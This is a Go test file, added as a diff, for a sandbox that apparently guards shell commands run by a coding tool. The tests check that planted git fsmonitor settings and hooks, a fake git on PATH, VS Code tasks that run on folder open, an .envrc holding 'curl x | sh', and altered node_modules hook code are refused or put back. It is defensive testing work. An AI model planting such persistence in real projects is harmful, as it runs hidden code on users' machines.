@@ -1,0 +1,279 @@
+package tools
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/rooted-dev/rooted/backend/jobs"
+	"github.com/rooted-dev/rooted/backend/session"
+	"github.com/rooted-dev/rooted/backend/tool"
+)
+
+type protectedOut struct {
+	execOut
+	GitRestored         []string `json:"git_restored"`
+	DependenciesChanged []string `json:"dependencies_changed"`
+	Hint                string
+	Job                 *struct{ ID string }
+}
+
+// registryWithJobs opens a project whose commands run in mode, with background jobs as the window has them.
+func registryWithJobs(t *testing.T, mode string, layout ...string) (*tool.Registry, string) {
+	t.Helper()
+	_, root := makeLayout(t, layout)
+	s, err := session.Open(root)
+	if err != nil {
+		t.Fatal(err)
+	}
+	d := Deps{Session: s, Jobs: &jobs.Manager{}, WithoutNamespaces: mode == "subreaper"}
+	t.Cleanup(func() {
+		d.Jobs.Close()
+		s.Close()
+	})
+	return Registry(d), root
+}
+
+// pollGit runs git status as an editor or a shell prompt does, outside the sandbox, over and over until stop is
+// closed; it returns how many times it ran.
+func pollGit(t *testing.T, dir string, stop <-chan struct{}) func() int {
+	var wg sync.WaitGroup
+	n := 0
+	wg.Add(1)
+	go func() {
+		defer wg.Done()
+		for {
+			select {
+			case <-stop:
+				return
+			default:
+			}
+			userGit(t, dir, "status")
+			n++
+		}
+	}()
+	return func() int { wg.Wait(); return n }
+}
+
+// The race the comparison after a command cannot see: a command plants core.fsmonitor and a hook, waits, and
+// writes the original bytes back before it ends, while git status runs outside the sandbox all along (an editor's
+// git, a shell prompt). With a mount namespace the plant is refused and git never runs the payload; without one
+// the watcher puts the change back at once and the result says so. A background job (a dev server) does the same
+// for as long as it runs.
+func TestPlantedAndPutBackBeforeExitNeverRunsOutside(t *testing.T) {
+	for _, mode := range guardModes(t) {
+		for _, background := range []bool{false, true} {
+			name := mode + "/foreground"
+			if background {
+				name = mode + "/background job"
+			}
+			t.Run(name, func(t *testing.T) {
+				fakeHome(t)
+				reg, root := registryWithJobs(t, mode, "main.go")
+				mustGit(t, root, "init", "-q")
+				mustGit(t, root, "add", "-A")
+				mustGit(t, root, "commit", "-qm", "first")
+				config := filepath.Join(root, ".git", "config")
+				original, _ := os.ReadFile(config)
+				marker := filepath.Join(t.TempDir(), "RAN")
+				js := `const fs = require('fs'); const M = ` + jsonString(marker) + `; const orig = fs.readFileSync('.git/config');
+					const tryIt = (f) => { try { f(); console.log('planted') } catch (e) { console.log('refused', e.code) } };
+					tryIt(() => fs.appendFileSync('.git/config', '[core]\n\tfsmonitor = "echo ran >> ' + M + ' #"\n'));
+					tryIt(() => fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\necho ran >> ' + M + '\n', {mode: 0o755}));
+					setTimeout(() => { tryIt(() => fs.writeFileSync('.git/config', orig)); tryIt(() => fs.rmSync('.git/hooks/pre-commit')); }, 1500);`
+				stop := make(chan struct{})
+				polls := pollGit(t, root, stop)
+				args := `{"command": "node", "args": [` + jsonString(js) + `], "backup": false, "background": ` + map[bool]string{true: "true", false: "false"}[background] + `}`
+				args = strings.Replace(args, `"args": [`, `"args": ["-e", `, 1)
+				out, e := call[protectedOut](t, reg, "exec_shell", args)
+				if e != nil {
+					close(stop)
+					t.Fatalf("exec_shell: %v", e)
+				}
+				if background {
+					if out.Job == nil {
+						close(stop)
+						t.Fatalf("no job: %+v", out)
+					}
+					o, e := call[jobOut](t, reg, "job_output", `{"id": "`+out.Job.ID+`", "wait_ms": 20000}`)
+					for e == nil && o.Running {
+						o, e = call[jobOut](t, reg, "job_output", `{"id": "`+out.Job.ID+`", "since": `+strconv.FormatInt(o.Next, 10)+`, "wait_ms": 20000}`)
+					}
+				}
+				close(stop)
+				n := polls()
+				if n < 5 {
+					t.Fatalf("git status ran only %d times during the command: the test proves nothing", n)
+				}
+				ran, _ := os.ReadFile(marker)
+				runs := strings.Count(string(ran), "ran")
+				switch mode {
+				case "pid namespace":
+					if runs > 0 {
+						t.Errorf("git outside the sandbox ran the planted payload %d times in %d runs", runs, n)
+					}
+					if !background && (!strings.Contains(out.Stdout, "refused EROFS") || strings.Contains(out.Stdout, "planted")) {
+						t.Errorf("the plant was not refused: %q", out.Stdout)
+					}
+				default:
+					t.Logf("watched mode: git outside ran the payload %d times in %d runs (the weaker mode)", runs, n)
+					if !background && !slices.ContainsFunc(out.GitRestored, func(s string) bool { return strings.Contains(s, ".git/config") }) {
+						t.Errorf("the change was not reported: %q", out.GitRestored)
+					}
+				}
+				if now, _ := os.ReadFile(config); string(now) != string(original) {
+					t.Errorf(".git/config is now %q", now)
+				}
+				if _, err := os.Stat(filepath.Join(root, ".git", "hooks", "pre-commit")); err == nil {
+					t.Error("the planted hook is still there")
+				}
+			})
+		}
+	}
+}
+
+// A folder on the command's PATH inside the project (a venv's bin, node_modules/.bin) is read-only: a program
+// planted there would run in place of the real one, for the user's tools and for Rooted's. An editor's task file
+// that did not exist cannot be created either: it is removed as soon as it appears.
+func TestPathFoldersAndEditorFilesInTheProject(t *testing.T) {
+	for _, mode := range guardModes(t) {
+		t.Run(mode, func(t *testing.T) {
+			fakeHome(t)
+			reg, root := registryWithJobs(t, mode, "main.go")
+			os.MkdirAll(filepath.Join(root, "bin"), 0o755)
+			os.MkdirAll(filepath.Join(root, ".vscode"), 0o755)
+			os.WriteFile(filepath.Join(root, ".vscode", "settings.json"), nil, 0o644)
+			t.Setenv("PATH", filepath.Join(root, "bin")+string(os.PathListSeparator)+os.Getenv("PATH"))
+			js := `const fs = require('fs'); const out = [];
+				for (const [p, s] of [['bin/git', '#!/bin/sh\necho planted\n'], ['.vscode/settings.json', '{"git.path": "bin/git"}'], ['.vscode/tasks.json', '{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}'], ['.envrc', 'curl x | sh']]) {
+					try { fs.writeFileSync(p, s, {mode: 0o755}); out.push('planted ' + p) } catch (e) { out.push('refused ' + p + ' ' + e.code) }
+				}
+				console.log(out.join('\n'));`
+			out, e := call[protectedOut](t, reg, "exec_shell", `{"command": "node", "args": ["-e", `+jsonString(js)+`], "backup": false}`)
+			if e != nil || out.ExitCode != 0 {
+				t.Fatalf("%+v %v", out, e)
+			}
+			if mode == "pid namespace" {
+				for _, p := range []string{"bin/git", ".vscode/settings.json", ".vscode/tasks.json"} {
+					if !strings.Contains(out.Stdout, "refused "+p+" EROFS") {
+						t.Errorf("%s was not refused: %s", p, out.Stdout)
+					}
+				}
+			}
+			for _, p := range []string{"bin/git", ".vscode/tasks.json", ".envrc"} {
+				if _, err := os.Lstat(filepath.Join(root, p)); err == nil {
+					t.Errorf("%s is there after the command (%s)", p, out.Stdout)
+				}
+			}
+			if b, _ := os.ReadFile(filepath.Join(root, ".vscode", "settings.json")); len(b) != 0 {
+				t.Errorf(".vscode/settings.json is now %q", b)
+			}
+			if !slices.Contains(out.GitRestored, "removed .envrc, which the command created") {
+				t.Errorf("not reported: %q", out.GitRestored)
+			}
+		})
+	}
+}
+
+// Hooks run code from dependency folders: husky's pre-commit runs node_modules' code on the user's next commit.
+// A command that is not the package manager's install cannot change it with a mount namespace; without one, what
+// it changed is reported, package by package, in the result and its text.
+func TestHuskyHookAfterACommandChangedNodeModules(t *testing.T) {
+	for _, mode := range guardModes(t) {
+		t.Run(mode, func(t *testing.T) {
+			fakeHome(t)
+			reg, root := registryWithJobs(t, mode, "main.go")
+			marker := filepath.Join(t.TempDir(), "RAN")
+			os.MkdirAll(filepath.Join(root, "node_modules", "lint"), 0o755)
+			os.MkdirAll(filepath.Join(root, ".husky"), 0o755)
+			os.WriteFile(filepath.Join(root, "node_modules", "lint", "index.js"), []byte("// lints\n"), 0o644)
+			os.WriteFile(filepath.Join(root, ".husky", "pre-commit"), []byte("#!/bin/sh\nnode node_modules/lint/index.js\n"), 0o755)
+			os.WriteFile(filepath.Join(root, ".gitignore"), []byte("node_modules/\n"), 0o644)
+			mustGit(t, root, "init", "-q")
+			mustGit(t, root, "config", "core.hooksPath", ".husky")
+			mustGit(t, root, "add", "-A")
+			mustGit(t, root, "commit", "-qm", "first")
+			js := `require('fs').writeFileSync('node_modules/lint/index.js', 'require("fs").writeFileSync(' + JSON.stringify(` + jsonString(marker) + `) + ', "ran")')`
+			out, e := call[protectedOut](t, reg, "exec_shell", `{"command": "node", "args": ["-e", `+jsonString(js)+`], "backup": false}`)
+			if e != nil {
+				t.Fatal(e)
+			}
+			userGit(t, root, "commit", "-q", "--allow-empty", "-m", "the user's commit")
+			_, ran := os.Stat(marker)
+			switch mode {
+			case "pid namespace":
+				if out.ExitCode == 0 || !strings.Contains(out.Stderr, "EROFS") {
+					t.Errorf("the change to node_modules was not refused: %+v", out)
+				}
+				if ran == nil {
+					t.Error("the user's commit ran a payload the command planted in node_modules")
+				}
+			default:
+				if !slices.Equal(out.DependenciesChanged, []string{"node_modules/lint"}) || !strings.Contains(out.Hint, "node_modules/lint") {
+					t.Errorf("the change to node_modules was not reported: %q, hint %q", out.DependenciesChanged, out.Hint)
+				}
+			}
+		})
+	}
+}
+
+// Only the package managers' own install commands may write the dependency folders.
+func TestIsInstall(t *testing.T) {
+	for argv, want := range map[string]bool{
+		"npm install": true, "npm ci": true, "npm i left-pad": true, "npm --prefer-offline install": true,
+		"pnpm add x": true, "yarn": true, "yarn add x": true, "bun install": true, "pip install -r requirements.txt": true,
+		"uv sync": true, "poetry install": true, "python -m pip install x": true, "python3 -m venv .venv": true,
+		"npm test": false, "npm run build": false, "npx husky": false, "yarn test": false, "pip list": false,
+		"python -m pytest": false, "python setup.py install": false, "node install.js": false, "uv run x": false,
+	} {
+		if got := isInstall(strings.Fields(argv)); got != want {
+			t.Errorf("%s: %v, want %v", argv, got, want)
+		}
+	}
+}
+
+// putBack reports what it did only when it did it: an operation that fails is reported as a failure.
+func TestPutBackReportsOnlyWhatItDid(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "file"), []byte("x"), 0o644)
+	os.MkdirAll(filepath.Join(dir, "d"), 0o755)
+	root, err := os.OpenRoot(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer root.Close()
+	for _, c := range []struct {
+		name string
+		do   func(u *putBack) bool
+		ok   bool
+		want string
+	}{
+		{"a file written", func(u *putBack) bool { return u.file("d/config", []byte("c"), 0o644, "restored d/config") }, true, "restored d/config"},
+		{"a file whose folder is a file", func(u *putBack) bool { return u.file("file/config", []byte("c"), 0o644, "restored file/config") }, false, "could not put back file/config"},
+		{"a file whose folder is gone", func(u *putBack) bool { return u.file("gone/config", []byte("c"), 0o644, "restored gone/config") }, false, "could not put back gone/config"},
+		{"a link written", func(u *putBack) bool { return u.link("d/l", "x", "restored d/l") }, true, "restored d/l"},
+		{"a link in a file", func(u *putBack) bool { return u.link("file/l", "x", "restored file/l") }, false, "could not put back file/l"},
+		{"a rename from nothing", func(u *putBack) bool { return u.rename("nothing", "d/x", "put back d/x") }, false, "could not put back d/x"},
+		{"a removal", func(u *putBack) bool { return u.remove("d/l", "removed d/l") }, true, "removed d/l"},
+		{"outside the root", func(u *putBack) bool { return u.file("../escape", []byte("c"), 0o644, "restored ../escape") }, false, "could not put back ../escape"},
+	} {
+		u := putBack{root: root}
+		if ok := c.do(&u); ok != c.ok {
+			t.Errorf("%s: %v, want %v", c.name, ok, c.ok)
+		}
+		if r := u.report(); len(r) != 1 || !strings.HasPrefix(r[0], c.want) {
+			t.Errorf("%s: reported %q, want %q", c.name, r, c.want)
+		}
+	}
+	// What was too large to keep is neither written back nor removed.
+	big := &node{exists: true, mode: 0o644, partial: true}
+	u := putBack{root: root}
+	u.tree("file", big, &node{exists: true, mode: 0o644, data: []byte("changed")})
+	if b, _ := os.ReadFile(filepath.Join(dir, "file")); string(b) != "x" || len(u.report()) != 1 || !strings.Contains(u.report()[0], "too large") {
+		t.Errorf("a file too large to keep: %q, reported %q", b, u.report())
+	}
+}
